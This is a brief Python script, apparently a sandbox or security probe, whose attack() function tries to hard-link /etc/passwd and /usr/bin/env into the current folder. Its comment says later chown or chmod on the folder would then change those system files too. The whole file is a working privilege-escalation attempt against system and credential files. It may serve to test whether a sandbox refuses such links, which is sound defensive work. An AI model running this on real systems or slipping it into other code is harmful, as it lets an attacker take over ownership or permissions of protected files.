# A second name for a file that is not its own. Would gain: what is done to its folder afterwards (chown, chmod) is done to that file.
import os


def attack():
    for path in ("/etc/passwd", "/usr/bin/env"):
        try:
            os.link(path, "linked")
            return True
        except OSError as error:
            print("refused:", error)
    return False
